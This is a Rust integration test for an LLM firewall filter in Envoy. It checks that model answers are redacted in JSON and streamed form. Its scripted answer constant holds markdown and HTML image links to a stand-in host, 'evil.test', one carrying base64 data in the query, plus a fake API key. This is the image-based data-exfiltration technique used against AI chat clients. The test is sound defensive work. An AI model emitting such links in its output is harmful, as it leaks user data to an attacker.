//! The model's own answer text through real Envoy + the filter (issue 16): an image carrying
//! data to a host not allow-listed, a reference-style image, an `<img src>` and a secret in the
//! answer are replaced in place in the three LLM formats, JSON and streamed (the demo upstream
//! splits the streamed text into many deltas, so the URL and the key arrive in pieces); an
//! allow-listed image passes; each redacted answer counts `llmfw.response.redacted`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use llmfw_tests::stack::RawReply;
use llmfw_tests::{Stack, StackOptions};
use serde_json::{json, Value};

const COUNTER: &str = "wasmcustom.llmfw.response.redacted";

/// The scripted answer.
const TEXT: &str = "Summary: ![chart](https://evil.test/c.png?d=c2VjcmV0) and ![ok](https://docs.example.com/a.png) \
                    then ![pixel][p] <img src=\"https://evil.test/i.gif\"> and the key \
                    sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 end.\n\n[p]: https://evil.test/t.png\n";
const REDACTED: &str =
    "Summary: ![chart]([llmfw:redacted-url]) and ![ok](https://docs.example.com/a.png) \
                        then ![pixel][p] <img src=\"[llmfw:redacted-url]\"> and the key \
                        [llmfw:redacted-secret] end.\n\n[p]: [llmfw:redacted-url]\n";

fn script() -> String {
    json!({"text": TEXT, "pieces": 60}).to_string()
}

/// A benign question; the answer comes from the `x-demo-reply` script (the request's own text
/// is judged too, and an exfiltration link in it would be refused).
fn request(path: &str, stream: bool) -> Value {
    let ask = "Summarise the report.";
    match path {
        "/v1/responses" => json!({"model": "m", "input": ask, "stream": stream}),
        "/v1/messages" => json!({"model": "m", "max_tokens": 64, "stream": stream,
                                 "messages": [{"role": "user", "content": ask}]}),
        _ => json!({"model": "m", "stream": stream,
                    "messages": [{"role": "user", "content": ask}]}),
    }
}

/// The answer text of a JSON reply.
fn json_text(path: &str, v: &Value) -> String {
    let p = match path {
        "/v1/responses" => "/output/0/content/0/text",
        "/v1/messages" => "/content/0/text",
        _ => "/choices/0/message/content",
    };
    v.pointer(p)
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_owned()
}

/// The delta text a client assembles from a stream, and the full texts the stream repeats.
fn stream_text(path: &str, reply: &RawReply) -> (String, Vec<String>) {
    let (events, _) = reply.sse();
    let mut text = String::new();
    let mut full = Vec::new();
    for (_, v) in &events {
        let s = |p: &str| v.pointer(p).and_then(Value::as_str).map(str::to_owned);
        match (path, v["type"].as_str().unwrap_or("")) {
            ("/v1/responses", "response.output_text.delta") => text.push_str(&s("/delta").unwrap()),
            ("/v1/responses", "response.output_text.done") => full.push(s("/text").unwrap()),
            ("/v1/responses", "response.content_part.done") => full.push(s("/part/text").unwrap()),
            ("/v1/responses", "response.output_item.done") => {
                full.extend(s("/item/content/0/text"))
            }
            ("/v1/responses", "response.completed") => {
                full.push(s("/response/output/0/content/0/text").unwrap());
            }
            ("/v1/messages", "content_block_start") => {
                text.push_str(&s("/content_block/text").unwrap_or_default());
            }
            ("/v1/messages", "content_block_delta") => {
                text.push_str(&s("/delta/text").unwrap_or_default());
            }
            ("/v1/chat/completions", _) => {
                text.push_str(&s("/choices/0/delta/content").unwrap_or_default());
            }
            _ => {}
        }
    }
    (text, full)
}

#[tokio::test]
async fn answer_text_is_redacted_in_every_format_json_and_streamed() -> anyhow::Result<()> {
    let stack = Stack::start(StackOptions {
        label: "reply-text".to_owned(),
        plugin_config: json!({
            "routes": [
                {"path_prefix": "/v1/chat/completions", "format": "openai_chat"},
                {"path_prefix": "/v1/responses", "format": "openai_responses"},
                {"path_prefix": "/v1/messages", "format": "anthropic"}
            ],
            "detect": {"exfil_allow_hosts": ["docs.example.com"]}
        }),
        store: None,
        state_port: None,
    })
    .await?;
    let mut expected_count = 0;
    for path in ["/v1/chat/completions", "/v1/responses", "/v1/messages"] {
        let script = script();
        let headers = [("x-demo-reply", script.as_str())];
        let reply = stack
            .post_with(path, &headers, &request(path, false))
            .await?;
        assert_eq!(reply.status, 200, "{path}: {}", reply.text());
        assert_eq!(json_text(path, &reply.json()?), REDACTED, "{path} JSON");
        assert_eq!(
            reply.header("x-llmfw-decision").as_deref(),
            Some("warn"),
            "{path}"
        );
        let reasons = reply.header("x-llmfw-reasons").unwrap_or_default();
        assert!(
            reasons.contains("response text redacted"),
            "{path}: {reasons}"
        );
        assert!(
            reasons.contains("exfil.markdown_image"),
            "{path}: {reasons}"
        );
        expected_count += 1;

        let reply = stack
            .post_with(path, &headers, &request(path, true))
            .await?;
        assert_eq!(reply.status, 200, "{path}");
        let (text, full) = stream_text(path, &reply);
        assert_eq!(text, REDACTED, "{path} stream");
        for f in &full {
            assert_eq!(f, REDACTED, "{path} repeated text");
        }
        if path == "/v1/responses" {
            assert_eq!(full.len(), 4, "{path}: every repeated form seen");
        }
        let raw = reply.text();
        assert!(
            !raw.contains("evil.test") && !raw.contains("sk-proj"),
            "{path}: raw bytes leak: {raw}"
        );
        assert!(raw.contains(": llmfw decision=warn"), "{path}: {raw}");
        expected_count += 1;
    }
    assert_eq!(stack.envoy_counter(COUNTER).await?, expected_count);

    // A clean answer is not counted and not changed.
    let clean =
        json!({"text": "Nothing to remove: ![ok](https://docs.example.com/a.png).", "pieces": 9});
    let clean = clean.to_string();
    let headers = [("x-demo-reply", clean.as_str())];
    let reply = stack
        .post_with(
            "/v1/chat/completions",
            &headers,
            &request("/v1/chat/completions", false),
        )
        .await?;
    assert_eq!(
        json_text("/v1/chat/completions", &reply.json()?),
        "Nothing to remove: ![ok](https://docs.example.com/a.png)."
    );
    assert_eq!(reply.header("x-llmfw-decision"), None);
    assert_eq!(stack.envoy_counter(COUNTER).await?, expected_count);
    Ok(())
}
